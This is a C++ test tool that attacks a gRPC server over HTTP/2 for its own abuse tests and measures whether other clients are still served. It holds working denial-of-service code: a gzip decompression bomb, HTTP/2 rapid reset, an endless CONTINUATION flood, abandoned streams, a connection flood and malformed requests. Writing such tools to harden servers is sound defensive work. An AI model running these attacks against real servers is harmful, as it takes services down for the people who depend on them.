// aurigraph-h2abuse: one client misbehaving against a gRPC server, for the
// reference server's abuse tests (tests/e2e/attack_test.sh), plus the canary
// that measures whether everyone else is still served.
//
//   bomb       gzip-compressed requests that inflate far beyond any message limit
//   abandon    streams opened with HEADERS only and never finished, on one connection
//   reset      HEADERS immediately followed by RST_STREAM(CANCEL), over and over ("rapid reset")
//   continuation  one header block that never ends, CONTINUATION after CONTINUATION
//   flood      closed-loop unary calls on many connections at once (overload)
//   malformed  requests gRPC cannot decode; prints the status each one gets
//   canary     well-behaved unary calls at a fixed rate with a deadline; prints the share on time
//
// Every mode prints one summary line per outcome to stdout and exits 0 once it
// has carried out its attack (whatever the server did), 2 on bad flags, 3 when
// the target cannot be reached.
#include <grpcpp/grpcpp.h>
#include <poll.h>
#include <zlib.h>

#include <algorithm>
#include <atomic>
#include <boost/program_options.hpp>
#include <chrono>
#include <condition_variable>
#include <iostream>
#include <map>
#include <mutex>
#include <thread>

#include "absl/strings/str_cat.h"
#include "absl/strings/str_format.h"
#include "aurigraph/approval/v1/approval.grpc.pb.h"
#include "common/units/units.h"
#include "tests/tools/h2abuse/raw_h2.h"

namespace po = boost::program_options;
using namespace aurigraph;
using namespace aurigraph::h2abuse;
using Clock = std::chrono::steady_clock;

namespace {

constexpr char kHealthPath[] = "/aurigraph.approval.v1.ApprovalService/CheckHealth";
constexpr uint32_t kCancel = 0x8;

// The 5-byte gRPC message prefix: compressed flag, big-endian length.
std::string GrpcFrame(std::string_view message, bool compressed) {
  std::string frame(5, '\0');
  frame[0] = compressed ? 1 : 0;
  const uint32_t length = message.size();
  for (int i = 0; i < 4; ++i) frame[1 + i] = static_cast<char>(length >> (24 - 8 * i));
  frame.append(message);
  return frame;
}

// Raw deflate of `data` from a fresh state, ending byte-aligned (Z_FULL_FLUSH),
// so outputs of separate calls concatenate into one valid deflate stream.
std::string RawDeflate(std::string_view data) {
  z_stream z{};
  deflateInit2(&z, 9, Z_DEFLATED, -15, 9, Z_DEFAULT_STRATEGY);
  z.next_in = reinterpret_cast<Bytef*>(const_cast<char*>(data.data()));
  z.avail_in = data.size();
  std::string out(deflateBound(&z, data.size()) + 16, '\0');
  z.next_out = reinterpret_cast<Bytef*>(out.data());
  z.avail_out = out.size();
  deflate(&z, Z_FULL_FLUSH);
  out.resize(out.size() - z.avail_out);
  deflateEnd(&z);
  return out;
}

// gzip of a protobuf message `size` bytes long: field 6 (a string or bytes
// field, e.g. Transaction.memo) holding zeros. Deflate shrinks zeros about
// 1000:1; each 1 MiB is compressed once and repeated, so a 1 GiB bomb is built
// in milliseconds rather than the seconds deflating a gigabyte takes.
std::string GzipBomb(int64_t size) {
  constexpr int64_t kChunk = 1 << 20;
  auto varint = [](uint64_t v) {
    std::string out;
    for (; v >= 0x80; v >>= 7) out.push_back(static_cast<char>((v & 0x7f) | 0x80));
    out.push_back(static_cast<char>(v));
    return out;
  };
  std::string head;
  for (int64_t digits = 1; head.empty(); ++digits) {  // the length's own size counts too
    const std::string length = varint(size - 1 - digits);
    if (static_cast<int64_t>(length.size()) == digits) head = "\x32" + length;  // field 6, bytes
  }
  const std::string zeros(kChunk, '\0');
  const int64_t first = std::min(size, kChunk);
  std::string first_chunk = head + zeros.substr(0, first - head.size());
  std::string out("\x1f\x8b\x08\0\0\0\0\0\0\x03", 10);  // gzip header
  out += RawDeflate(first_chunk);
  uLong crc = crc32(0, reinterpret_cast<const Bytef*>(first_chunk.data()), first_chunk.size());
  const std::string repeated = RawDeflate(zeros);
  const uLong zeros_crc = crc32(0, reinterpret_cast<const Bytef*>(zeros.data()), zeros.size());
  int64_t left = size - first;
  for (; left >= kChunk; left -= kChunk) {
    out += repeated;
    crc = crc32_combine(crc, zeros_crc, kChunk);
  }
  if (left > 0) {
    out += RawDeflate(zeros.substr(0, left));
    crc = crc32_combine(crc, crc32(0, reinterpret_cast<const Bytef*>(zeros.data()), left), left);
  }
  out += std::string("\x03\x00", 2);  // an empty final block
  for (uint64_t v : {static_cast<uint64_t>(crc), static_cast<uint64_t>(size)}) {
    for (int i = 0; i < 4; ++i) out.push_back(static_cast<char>(v >> (8 * i)));
  }
  return out;
}

std::string Describe(const StreamOutcome& outcome) {
  if (outcome.reset) return absl::StrCat("RST_STREAM ", ErrorCodeName(outcome.reset_code));
  if (outcome.grpc_status < 0) return "no status";
  return absl::StrCat("grpc-status ", outcome.grpc_status, " \"", outcome.grpc_message, "\"");
}

std::string DescribeClose(const RawH2Connection& connection) {
  std::string text = connection.closed() ? "connection closed by the server" : "connection open";
  if (connection.goaway_received()) {
    absl::StrAppend(&text, " (GOAWAY ", ErrorCodeName(connection.goaway_code()), ", last stream ",
                    connection.goaway_last_stream(), ", \"", connection.goaway_debug(), "\")");
  } else if (connection.closed()) {
    absl::StrAppend(&text, " (no GOAWAY)");
  }
  return text;
}

// Runs `connection` until `done` or the connection closes or `seconds` pass.
void PumpUntil(RawH2Connection& connection, double seconds, const std::function<bool()>& done) {
  const auto until = Clock::now() + std::chrono::duration<double>(seconds);
  while (!done() && Clock::now() < until && connection.Pump(20)) {
  }
}

int Bomb(RawH2Connection& connection, int count, int64_t inflated, const std::string& path) {
  const auto started = Clock::now();
  const std::string frame = GrpcFrame(GzipBomb(inflated), /*compressed=*/true);
  std::map<std::string, int> outcomes;
  int done = 0;
  connection.OnStreamDone([&](const StreamOutcome& outcome) {
    ++outcomes[Describe(outcome)];
    ++done;
  });
  for (int i = 0; i < count; ++i) {
    const int32_t stream = connection.Open(path, {{"grpc-encoding", "gzip"}}, false);
    connection.Send(stream, frame, true);
  }
  PumpUntil(connection, 60, [&] { return done == count; });
  std::cout << absl::StrFormat("bomb: %d requests of %d bytes inflating to %d bytes, %.1f s\n",
                               count, frame.size(), inflated,
                               std::chrono::duration<double>(Clock::now() - started).count());
  for (const auto& [what, n] : outcomes) std::cout << "bomb: " << n << " x " << what << "\n";
  if (done < count) std::cout << "bomb: " << count - done << " x no answer within 60 s\n";
  return 0;
}

int Abandon(RawH2Connection& connection, int streams, double hold_seconds,
            const std::string& path) {
  std::map<std::string, int> outcomes;
  connection.OnStreamDone([&](const StreamOutcome& outcome) { ++outcomes[Describe(outcome)]; });
  int opened = 0;
  while (opened < streams && !connection.closed()) {
    for (int i = 0; i < 256 && opened < streams; ++i, ++opened) connection.Open(path, {}, false);
    connection.Drain(100);
  }
  const int open_after_send = connection.open_streams();
  PumpUntil(connection, hold_seconds, [] { return false; });
  std::cout << "abandon: opened " << opened << " of " << streams << " streams with HEADERS only; "
            << "server SETTINGS_MAX_CONCURRENT_STREAMS "
            << connection.server_max_concurrent_streams() << "; still open after sending "
            << open_after_send << ", after " << hold_seconds << " s " << connection.open_streams()
            << "; " << DescribeClose(connection) << "\n";
  for (const auto& [what, n] : outcomes) std::cout << "abandon: " << n << " x " << what << "\n";
  return 0;
}

// One stream whose header block never ends: HEADERS without END_HEADERS, then
// CONTINUATION frames of header fields (literal, not indexed: "x-pad", 100
// bytes) for as long as the server takes them, up to `bytes` or `seconds`.
int Continuation(RawH2Connection& connection, int64_t bytes, double seconds,
                 const std::string& path) {
  const auto started = Clock::now();
  const auto until = started + std::chrono::duration<double>(seconds);
  std::string field = std::string("\x00\x05x-pad\x64", 8) + std::string(100, 'a');
  std::string fragment;
  while (fragment.size() + field.size() <= 16384) fragment += field;
  const int32_t stream = connection.Open(path, {}, false, /*end_headers=*/false);
  int64_t sent = 0;
  while (sent < bytes && !connection.closed() && Clock::now() < until) {
    connection.Continue(stream, fragment, false);
    sent += static_cast<int64_t>(fragment.size());
    while (connection.pending_output() > (256 << 10) && connection.Pump(100)) {
    }
    connection.Pump(0);
  }
  connection.Drain(1000);
  const double elapsed = std::chrono::duration<double>(Clock::now() - started).count();
  PumpUntil(connection, 2, [] { return false; });
  std::cout << absl::StrFormat(
      "continuation: sent %d MiB of one header block in CONTINUATION frames in %.1f s, never "
      "ended; %s\n",
      sent >> 20, elapsed, DescribeClose(connection));
  return 0;
}

int Reset(RawH2Connection& connection, int streams, double seconds, const std::string& path) {
  const auto started = Clock::now();
  const auto until = started + std::chrono::duration<double>(seconds);
  const std::string empty = GrpcFrame("", false);
  int sent = 0;
  while (sent < streams && !connection.closed() && Clock::now() < until) {
    for (int i = 0; i < 64 && sent < streams; ++i, ++sent) {
      const int32_t stream = connection.Open(path, {}, false);
      connection.Send(stream, empty, true);
      connection.Reset(stream, kCancel);
    }
    // Keep a little output queued, like an attacker writing as fast as the socket takes it.
    while (connection.pending_output() > (256 << 10) && connection.Pump(100)) {
    }
    connection.Pump(0);
  }
  connection.Drain(1000);
  const double elapsed = std::chrono::duration<double>(Clock::now() - started).count();
  PumpUntil(connection, 2, [] { return false; });  // does the server close it after all?
  std::cout << absl::StrFormat(
      "reset: sent %d of %d HEADERS+DATA+RST_STREAM(CANCEL) in %.1f s; %s\n", sent, streams,
      elapsed, DescribeClose(connection));
  return 0;
}

struct Latencies {
  std::vector<double> ms;
  std::string Summary() {
    if (ms.empty()) return "no calls";
    std::sort(ms.begin(), ms.end());
    double sum = 0;
    for (double v : ms) sum += v;
    return absl::StrFormat("mean %.0f ms, p99 %.0f ms, max %.0f ms", sum / ms.size(),
                           ms[ms.size() * 99 / 100], ms.back());
  }
};

int Flood(const std::string& target, int connections, int per_connection, double seconds,
          const std::string& path) {
  std::vector<std::unique_ptr<RawH2Connection>> links;
  for (int i = 0; i < connections; ++i) {
    auto link = RawH2Connection::Connect(target);
    if (!link.ok()) {
      std::cerr << "aurigraph-h2abuse: " << link.status().message() << "\n";
      return 3;
    }
    links.push_back(*std::move(link));
    // Like h2load or any HTTP/2 library, keep within the server's stream limit.
    PumpUntil(*links.back(), 1, [&] { return links.back()->settings_received(); });
  }
  const int64_t allowed = links[0]->server_max_concurrent_streams();
  const int in_flight = allowed > 0 ? std::min<int64_t>(per_connection, allowed) : per_connection;
  const std::string empty = GrpcFrame("", false);
  std::map<std::string, int64_t> by_status;
  Latencies ok_latency;
  bool sending = true;
  const auto start = Clock::now();
  std::map<int64_t, Clock::time_point> sent_at;  // by connection index << 32 | stream id
  auto issue = [&](int i) {
    const int32_t stream = links[i]->Open(path, {}, false);
    links[i]->Send(stream, empty, true);
    sent_at[(static_cast<int64_t>(i) << 32) | stream] = Clock::now();
  };
  for (int i = 0; i < connections; ++i) {
    links[i]->OnStreamDone([&, i](const StreamOutcome& outcome) {
      const auto at = sent_at.extract((static_cast<int64_t>(i) << 32) | outcome.stream_id);
      const double ms =
          at.empty()
              ? 0
              : std::chrono::duration<double, std::milli>(Clock::now() - at.mapped()).count();
      if (outcome.grpc_status == 0) ok_latency.ms.push_back(ms);
      ++by_status[outcome.reset ? Describe(outcome)
                                : absl::StrCat("grpc-status ", outcome.grpc_status)];
      if (sending && !links[i]->closed()) issue(i);
    });
    for (int s = 0; s < in_flight; ++s) issue(i);
  }
  std::vector<pollfd> fds(connections);
  const auto until = start + std::chrono::duration<double>(seconds);
  while (true) {
    if (sending && Clock::now() >= until) sending = false;
    bool any_open = false;
    for (int i = 0; i < connections; ++i) {
      fds[i] = {links[i]->fd(),
                static_cast<short>(POLLIN | (links[i]->pending_output() ? POLLOUT : 0)), 0};
      any_open |= !links[i]->closed() && links[i]->open_streams() > 0;
    }
    if (!any_open || Clock::now() > until + std::chrono::seconds(10)) break;
    poll(fds.data(), fds.size(), 20);
    for (int i = 0; i < connections; ++i) {
      if (fds[i].revents) links[i]->Pump(0);
    }
  }
  const double elapsed = std::chrono::duration<double>(Clock::now() - start).count();
  int64_t total = 0, closed = 0;
  for (const auto& [_, n] : by_status) total += n;
  for (const auto& link : links) closed += link->closed();
  std::cout << absl::StrFormat(
      "flood: %d calls in %.1f s on %d connections x %d streams in flight (asked %d, server "
      "allows %d); OK latency %s; %d connections closed by the server\n",
      total, elapsed, connections, in_flight, per_connection, allowed, ok_latency.Summary(),
      closed);
  for (const auto& [what, n] : by_status) std::cout << "flood: " << n << " x " << what << "\n";
  return 0;
}

int Malformed(RawH2Connection& connection, const std::string& path) {
  const std::vector<std::tuple<std::string, RawH2Connection::Headers, std::string>> cases = {
      {"bytes that are not the request message", {}, GrpcFrame("\xff\xff\xff\xff", false)},
      {"gzip-flagged message that is not gzip",
       {{"grpc-encoding", "gzip"}},
       GrpcFrame("not gzip at all", true)},
      {"compressed flag without grpc-encoding", {}, GrpcFrame("\x08\x01", true)},
      {"length prefix beyond the data", {}, GrpcFrame("", false).replace(4, 1, "\x20")},
  };
  std::map<int32_t, std::string> names;
  int done = 0;
  connection.OnStreamDone([&](const StreamOutcome& outcome) {
    std::cout << "malformed: " << names[outcome.stream_id] << ": " << Describe(outcome) << "\n";
    ++done;
  });
  for (const auto& [name, headers, body] : cases) {
    const int32_t stream = connection.Open(path, headers, false);
    names[stream] = name;
    connection.Send(stream, body, true);
  }
  PumpUntil(connection, 10, [&] { return done == static_cast<int>(cases.size()); });
  if (done < static_cast<int>(cases.size())) {
    std::cout << "malformed: " << cases.size() - done << " without an answer; "
              << DescribeClose(connection) << "\n";
  }
  return 0;
}

// Unary CheckHealth calls at `rate` per second for `seconds`, each with `deadline`.
int Canary(const std::string& target, double rate, double seconds, double deadline_seconds) {
  grpc::ChannelArguments args;
  args.SetInt(GRPC_ARG_USE_LOCAL_SUBCHANNEL_POOL, 1);
  auto channel = grpc::CreateCustomChannel(target, grpc::InsecureChannelCredentials(), args);
  if (!channel->WaitForConnected(std::chrono::system_clock::now() + std::chrono::seconds(5))) {
    std::cerr << "aurigraph-h2abuse: canary: " << target << " unreachable\n";
    return 3;
  }
  auto stub = approval::v1::ApprovalService::NewStub(channel);
  struct Call {
    grpc::ClientContext context;
    common::v1::HealthRequest request;
    common::v1::HealthResponse response;
    Clock::time_point sent;
  };
  std::mutex mutex;
  std::condition_variable all_done;
  int64_t outstanding = 0, on_time = 0, total = 0;
  std::map<std::string, int64_t> failures;
  Latencies latency;
  const auto start = Clock::now();
  const auto interval = std::chrono::duration<double>(1.0 / rate);
  for (int64_t i = 0; Clock::now() < start + std::chrono::duration<double>(seconds); ++i) {
    std::this_thread::sleep_until(start +
                                  std::chrono::duration_cast<Clock::duration>(interval * i));
    auto* call = new Call;
    call->context.set_deadline(std::chrono::system_clock::now() +
                               std::chrono::duration_cast<std::chrono::system_clock::duration>(
                                   std::chrono::duration<double>(deadline_seconds)));
    call->sent = Clock::now();
    {
      std::lock_guard lock(mutex);
      ++outstanding;
      ++total;
    }
    stub->async()->CheckHealth(
        &call->context, &call->request, &call->response, [&, call](grpc::Status status) {
          const double ms =
              std::chrono::duration<double, std::milli>(Clock::now() - call->sent).count();
          std::lock_guard lock(mutex);
          latency.ms.push_back(ms);
          if (status.ok()) {
            ++on_time;
          } else {
            ++failures[absl::StrCat(status.error_code(), " ", status.error_message())];
          }
          if (--outstanding == 0) all_done.notify_all();
          delete call;
        });
  }
  std::unique_lock lock(mutex);
  all_done.wait(lock, [&] { return outstanding == 0; });
  std::cout << absl::StrFormat("canary: %d of %d calls OK within %.0f ms (%.2f%%); %s\n", on_time,
                               total, deadline_seconds * 1000, 100.0 * on_time / total,
                               latency.Summary());
  for (const auto& [what, n] : failures)
    std::cout << "canary: " << n << " x status " << what << "\n";
  return 0;
}

int Fail(const std::string& message) {
  std::cerr << "aurigraph-h2abuse: " << message << "\n";
  return 2;
}

}  // namespace

int main(int argc, char** argv) {
  setenv("GRPC_VERBOSITY", "NONE", 0);
  po::options_description options("aurigraph-h2abuse MODE --target HOST:PORT [options]");
  options.add_options()("help,h", "show this help")(
      "mode", po::value<std::string>(),
      "bomb | abandon | reset | continuation | flood | malformed | canary")(
      "target", po::value<std::string>(), "HOST:PORT (plaintext HTTP/2)")(
      "path", po::value<std::string>()->default_value(kHealthPath), "the gRPC method path")(
      "count", po::value<int>()->default_value(3), "bomb: requests sent at once")(
      "inflated", po::value<std::string>()->default_value("1GiB"), "bomb: size once inflated")(
      "header-bytes", po::value<std::string>()->default_value("1GiB"),
      "continuation: header block bytes to send")("streams", po::value<int>()->default_value(50000),
                                                  "abandon, reset: streams to open")(
      "hold", po::value<std::string>()->default_value("5s"),
      "abandon: how long to keep the connection afterwards")(
      "no-settings-ack",
      "abandon: never acknowledge the server's SETTINGS (so its limits never apply)")(
      "duration", po::value<std::string>()->default_value("10s"),
      "flood, canary: how long to send; reset, continuation: at most this long")(
      "connections", po::value<int>()->default_value(16), "flood: connections")(
      "per-connection", po::value<int>()->default_value(1000),
      "flood: calls kept in flight on each connection (at most what the server allows)")(
      "rate", po::value<double>()->default_value(50), "canary: calls per second")(
      "deadline", po::value<std::string>()->default_value("1s"), "canary: deadline of each call");
  po::positional_options_description positional;
  positional.add("mode", 1);
  po::variables_map vm;
  try {
    po::store(po::command_line_parser(argc, argv).options(options).positional(positional).run(),
              vm);
    po::notify(vm);
  } catch (const po::error& e) {
    return Fail(std::string(e.what()) + " (see --help)");
  }
  if (vm.count("help")) {
    std::cout << options << "\n";
    return 0;
  }
  if (!vm.count("mode") || !vm.count("target")) return Fail("MODE and --target are required");
  const std::string mode = vm["mode"].as<std::string>();
  const std::string target = vm["target"].as<std::string>();
  const std::string path = vm["path"].as<std::string>();
  auto seconds = [&](const char* flag) -> absl::StatusOr<double> {
    auto nanos = ParseDuration(vm[flag].as<std::string>());
    if (!nanos.ok() || *nanos <= 0)
      return absl::InvalidArgumentError(
          absl::StrCat("--", flag, ": expected a duration such as 5s"));
    return *nanos / 1e9;
  };
  auto duration = seconds("duration");
  if (!duration.ok()) return Fail(std::string(duration.status().message()));
  if (mode == "canary") {
    auto deadline = seconds("deadline");
    if (!deadline.ok()) return Fail(std::string(deadline.status().message()));
    if (vm["rate"].as<double>() <= 0) return Fail("--rate must be > 0");
    return Canary(target, vm["rate"].as<double>(), *duration, *deadline);
  }
  if (mode == "flood") {
    if (vm["connections"].as<int>() < 1 || vm["per-connection"].as<int>() < 1)
      return Fail("--connections and --per-connection must be >= 1");
    return Flood(target, vm["connections"].as<int>(), vm["per-connection"].as<int>(), *duration,
                 path);
  }
  if (mode != "bomb" && mode != "abandon" && mode != "reset" && mode != "continuation" &&
      mode != "malformed")
    return Fail("unknown mode '" + mode + "' (see --help)");
  auto connection = RawH2Connection::Connect(target);
  if (!connection.ok()) {
    std::cerr << "aurigraph-h2abuse: " << connection.status().message() << "\n";
    return 3;
  }
  RawH2Connection& link = **connection;
  if (vm.count("no-settings-ack")) link.IgnoreSettings();
  PumpUntil(link, 1, [&] { return link.settings_received(); });
  if (mode == "bomb") {
    auto inflated = ParseBytes(vm["inflated"].as<std::string>());
    if (!inflated.ok() || *inflated <= 0) return Fail("--inflated: expected a size such as 1GiB");
    return Bomb(link, vm["count"].as<int>(), *inflated, path);
  }
  if (mode == "abandon") {
    auto hold = seconds("hold");
    if (!hold.ok()) return Fail(std::string(hold.status().message()));
    return Abandon(link, vm["streams"].as<int>(), *hold, path);
  }
  if (mode == "reset") return Reset(link, vm["streams"].as<int>(), *duration, path);
  if (mode == "continuation") {
    auto bytes = ParseBytes(vm["header-bytes"].as<std::string>());
    if (!bytes.ok() || *bytes <= 0) return Fail("--header-bytes: expected a size such as 1GiB");
    return Continuation(link, *bytes, *duration, path);
  }
  return Malformed(link, path);
}
